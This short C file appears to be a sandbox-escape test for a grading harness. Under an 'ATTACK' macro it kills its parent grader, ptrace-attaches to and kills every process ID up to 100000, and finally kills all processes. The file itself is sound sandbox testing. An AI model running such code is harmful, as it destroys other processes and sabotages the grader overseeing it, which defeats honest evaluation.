/* Kills the grader and every other process. */
#include <signal.h>
#include <sys/ptrace.h>
#include <unistd.h>

ATTACK
{
	kill(getppid(), SIGKILL);
	for (pid_t pid = 1; pid < 100000; pid++)
		if (pid != getpid()) {
			ptrace(PTRACE_ATTACH, pid, NULL, NULL);
			kill(pid, SIGKILL);
			kill(-pid, SIGKILL);
		}
	kill(-1, SIGKILL);
}
